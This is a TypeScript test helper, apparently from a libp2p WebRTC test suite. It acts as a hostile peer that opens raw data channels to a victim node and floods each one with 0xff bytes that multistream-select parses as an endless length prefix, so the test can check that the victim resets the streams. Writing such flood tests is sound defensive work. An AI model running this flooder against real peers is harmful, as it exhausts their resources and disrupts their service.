/**
 * A hostile peer on webrtc-direct, as a process of its own, for a test
 * that runs it in a network namespace next to its victim:
 *
 *   ip netns exec NS node test/utils/webrtc-flooder.ts ADDR STREAMS SECONDS
 *
 * Node runs this file as it is (type stripping), so it imports libraries
 * only. ADDR is a webrtc-direct address (with /certhash and /p2p), or a
 * TCP one (with /p2p): then it connects over TCP and sets up WebRTC (the
 * private-to-private transport, what any connected peer may do) through
 * that connection's signalling. It asks no STUN server, opens STREAMS
 * data channels and writes bytes that
 * all say "more follows" where multistream-select reads a length prefix,
 * into each until the victim ends it or SECONDS run out. Prints one JSON
 * line: its own peer id and, per stream, the bytes it got written and
 * whether (and after how long) the stream ended.
 */

import { createLibp2p } from 'libp2p'
import { webRTC, webRTCDirect } from '@libp2p/webrtc'
import { tcp } from '@libp2p/tcp'
import { circuitRelayTransport } from '@libp2p/circuit-relay-v2'
import { identify } from '@libp2p/identify'
import { noise } from '@chainsafe/libp2p-noise'
import { yamux } from '@libp2p/yamux'
import { multiaddr } from '@multiformats/multiaddr'
import type { Stream, StreamMuxer } from '@libp2p/interface'

const [addr, streamCount = '4', seconds = '6'] = process.argv.slice(2)
if (addr == null) throw new Error('usage: webrtc-flooder.ts ADDR [STREAMS] [SECONDS]')

const noStun = { rtcConfiguration: { iceServers: [] } }
const attacker = await createLibp2p({
  transports: [webRTCDirect(noStun), webRTC(noStun), tcp(), circuitRelayTransport()],
  connectionEncrypters: [noise()],
  streamMuxers: [yamux()],
  services: { identify: identify() },
  // the victim is at a loopback address, which libp2p's default gater refuses to dial
  connectionGater: { denyDialMultiaddr: () => false }
})
const signal = AbortSignal.timeout(20_000)
let webrtcAddr = multiaddr(addr)
if (!addr.includes('/webrtc-direct/')) {
  // WebRTC's address for a peer we are connected to: signalling runs on the connection we have
  await attacker.dial(multiaddr(addr), { signal })
  webrtcAddr = multiaddr(`${addr}/p2p-circuit/webrtc/p2p/${addr.split('/p2p/')[1]}`)
}
const connection = await attacker.dial(webrtcAddr, { signal, force: true })
if (!connection.remoteAddr.toString().includes('webrtc')) throw new Error(`not a WebRTC connection: ${connection.remoteAddr.toString()}`)
const chunk = new Uint8Array(16_000).fill(0xff)
const start = Date.now()
const until = start + Number(seconds) * 1000

async function flood (stream: Stream): Promise<{ sent: number, endedAfterMs: number | null }> {
  let endedAt: number | undefined
  stream.addEventListener('close', () => { endedAt = Date.now() }, { once: true })
  let sent = 0
  while (Date.now() < until && stream.status === 'open' && stream.writeStatus === 'writable') {
    sent += chunk.byteLength
    if (!stream.send(chunk)) {
      await new Promise<void>(resolve => {
        const done = (): void => { clearTimeout(timer); resolve() }
        const timer = setTimeout(done, until - Date.now())
        stream.addEventListener('drain', done, { once: true })
        stream.addEventListener('close', done, { once: true })
      })
    }
  }
  // a reset from the victim may still be on its way when the last write went out
  if (endedAt == null) await new Promise(resolve => setTimeout(resolve, 500))
  return { sent, endedAfterMs: endedAt == null ? null : endedAt - start }
}

// straight from the muxer: newStream() would negotiate a protocol first, where the flood is meant to go
const muxer = (connection as unknown as { muxer: StreamMuxer }).muxer
const streams = await Promise.all(Array.from({ length: Number(streamCount) }, async () => muxer.createStream({})))
const results = await Promise.all(streams.map(flood))
process.stdout.write(JSON.stringify({ peerId: attacker.peerId.toString(), streams: results }) + '\n')
await attacker.stop()
process.exit(0)
